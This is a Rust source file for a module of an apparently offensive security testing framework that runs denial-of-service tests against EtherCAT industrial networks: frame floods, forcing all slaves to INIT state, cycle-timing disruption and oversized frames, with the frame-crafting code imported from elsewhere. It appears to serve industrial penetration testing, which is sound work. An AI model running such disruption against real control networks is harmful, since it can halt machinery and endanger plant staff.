//! EtherCAT denial-of-service probes
//!
//! Floods the segment, requests INIT from every slave, disturbs cycle timing
//! with burst-pause traffic and sends oversized frames.

use kraken_core::{AttackContext, Evidence, Module, ModuleDescriptor, ModuleOutcome, Result, Severity};
use tracing::info;

use crate::testcase::{TestCase, DEFAULT_FLOOD};

/// Parameter key overriding the flood duration in milliseconds
pub const FLOOD_MS_PARAM: &str = "flood_ms";

static DESCRIPTOR: ModuleDescriptor = ModuleDescriptor {
    id: "ecat_dos",
    finding_id: "ecat-dos",
    name: "EtherCAT DoS",
    title: "EtherCAT DoS Testing",
    description: "Frame flood, AL state change, timing disruption and large frame tests",
    tags: &["ethercat", "dos", "availability"],
};

#[derive(Debug, Clone, Copy, Default)]
pub struct EcatDosModule;

impl EcatDosModule {
    pub fn new() -> Self {
        Self
    }
}

impl Module for EcatDosModule {
    fn descriptor(&self) -> &'static ModuleDescriptor {
        &DESCRIPTOR
    }

    fn run(&self, ctx: &mut AttackContext<'_>) -> Result<ModuleOutcome> {
        let flood = ctx
            .params()
            .duration_ms_or(FLOOD_MS_PARAM, DEFAULT_FLOOD.as_millis() as u64)?;

        ctx.log("Starting EtherCAT DoS tests");

        let mut evidence = Evidence::new();
        let mut total_sent = 0u64;

        for (i, test) in TestCase::dos_suite(flood).iter().enumerate() {
            if ctx.is_expired() {
                ctx.log(format!("Timeout reached, skipping remaining tests from {}", test.name()));
                break;
            }

            ctx.log(format!("Test {}: {}", i + 1, test.title()));
            let outcome = test.run(ctx)?;
            total_sent += outcome.sent;
            evidence.insert(format!("{}_sent", test.name()), outcome.sent);
        }

        ctx.log(format!("Total frames sent: {}", total_sent));
        info!(module = DESCRIPTOR.id, sent = total_sent, "DoS tests finished");

        let success = total_sent > 0;
        Ok(ModuleOutcome {
            success,
            severity: if success { Severity::Medium } else { Severity::Info },
            description: format!(
                "DoS tests completed. Sent {} frames including floods, state changes, and timing attacks.",
                total_sent
            ),
            evidence: evidence.with("total_sent", total_sent),
        })
    }
}
